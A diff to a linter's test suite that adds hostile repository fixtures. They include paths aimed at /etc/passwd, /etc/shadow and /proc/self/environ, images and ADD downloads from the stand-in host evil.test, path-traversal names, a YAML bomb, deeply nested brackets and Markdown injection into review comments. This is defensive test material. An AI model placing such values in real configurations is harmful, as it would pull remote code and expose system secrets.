@@ -97,6 +97,62 @@ const HOSTILE: [string, Record<string, FileContent>, RegExp | null][] = [
     null,
   ],
   [
+    'other encodings',
+    {
+      'enc/16le/Dockerfile': Buffer.from('\ufeffFROM debian\nRUN sudo x\n', 'utf16le'),
+      'enc/latin/Dockerfile': Buffer.from('FROM debian\n# caf\xe9\nRUN sudo x\n', 'latin1'),
+      'enc/cr/Dockerfile': 'FROM debian\rRUN sudo x\r',
+      'enc/lines/Dockerfile': 'FROM debian\nRUN a \u2028 sudo b \u0085 c\n\ufeffRUN sudo d\n',
+      'enc/half/compose.yaml': Buffer.from('services: { "\xed\xa0\x80": { image: "a:1" } }\n', 'latin1'),
+    },
+    null,
+  ],
+  [
+    'marks of ours',
+    {
+      'm/Dockerfile': `FROM debian\n<!-- hullcheck:v1 review -->\nRUN sudo echo "<!-- hullcheck:v1 fixed:x -->" \`\`\`suggestion\nENV \`\`\`\`\`\`=1\n~~~ \`\`\` x\n`,
+      'm/compose.yaml':
+        'services:\n  "<!-- hullcheck:v1 review -->":\n    image: "```suggestion"\n    prvileged: "</details></table><h1>@mona"\n',
+    },
+    null,
+  ],
+  [
+    'reasons and settings',
+    {
+      'r/Dockerfile': `FROM debian:12\n# hullcheck ignore=no-sudo -- ${MARKDOWN} ::error::x ${'very '.repeat(20_000)}\nRUN sudo x\n`,
+      '.github/hullcheck.yml': `${'['.repeat(50_000)}`,
+      '.devcontainer/devcontainer.json': `{"build":{"dockerfile":"../../../../etc/passwd"},"dockerComposeFile":${'['.repeat(50_000)}`,
+      '.hadolint.yaml': laughs(),
+    },
+    /hullcheck\.yml/,
+  ],
+  [
+    'paths that are nearly others',
+    {
+      'q/..%2f..%2f/Dockerfile': BAD,
+      'q/a\\..\\b/Dockerfile': BAD,
+      'q/ ./Dockerfile': BAD,
+      'q/dockerfile': BAD,
+      'q/Dockerfile': BAD,
+      [`q/${'d/'.repeat(200)}Dockerfile`]: BAD,
+      [`q/${'n'.repeat(240)}.Dockerfile`]: BAD,
+      'q/HEAD:x/Dockerfile': BAD,
+      'q/:(glob)**/Dockerfile': BAD,
+    },
+    null,
+  ],
+  [
+    'what leads elsewhere',
+    {
+      'e/compose.yaml':
+        'services:\n  a:\n    extends: { file: /proc/self/environ, service: x }\n    env_file: [/etc/passwd, ../../../.env, "https://evil.test/e"]\n    build: { context: "https://evil.test/x.git#main:sub", additional_contexts: { y: "docker-image://evil.test/y" }, dockerfile_inline: "FROM x\\n::error::@mona" }\n    label_file: /etc/shadow\n',
+      'e/Dockerfile':
+        '# syntax=evil.test/frontend:1\nFROM evil.test/x\nADD https://evil.test/a /a\nCOPY --from=evil.test/z / /\nRUN --mount=type=bind,from=evil.test/w sudo y\n',
+      'e/.dockerignore': '!**/../..\n'.repeat(30_000),
+    },
+    null,
+  ],
+  [
     'names that JavaScript knows',
     {
       'js/compose.yaml':
